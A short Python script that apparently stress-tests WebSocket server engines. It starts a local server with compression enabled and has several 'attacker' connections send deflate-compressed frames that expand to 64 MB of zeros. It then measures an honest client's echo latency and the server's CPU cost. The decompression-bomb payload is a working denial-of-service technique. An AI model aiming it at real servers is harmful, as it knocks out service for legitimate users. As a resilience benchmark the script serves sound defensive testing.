from a import *
p,port=start("--engine",sys.argv[1],"--deflate"); K=int(sys.argv[2])
try:
    m=fr(2,defl(bytes(64<<20)),rsv=0x40)
    h=conn(port,False)
    def echo():
        t=time.time(); h.sendall(fr(2,b"x"*10)); h.recv(100); return (time.time()-t)*1e3
    cs=[conn(port) for _ in range(K)]
    def push(s):
        for _ in range(3): s.sendall(m)
    for s in cs: threading.Thread(target=push,args=(s,),daemon=True).start()
    time.sleep(.1); c0=cpu(p.pid)
    t0=time.time(); l=[]
    while time.time()-t0<6: l.append(echo())
    print(sys.argv[1],K,"attackers x %d B: honest echo max %.0f ms over n=%d, server cpu %.1f s for %d kB"%(3*len(m),max(l),len(l),cpu(p.pid)-c0,K*3*len(m)//1000))
finally: p.kill()
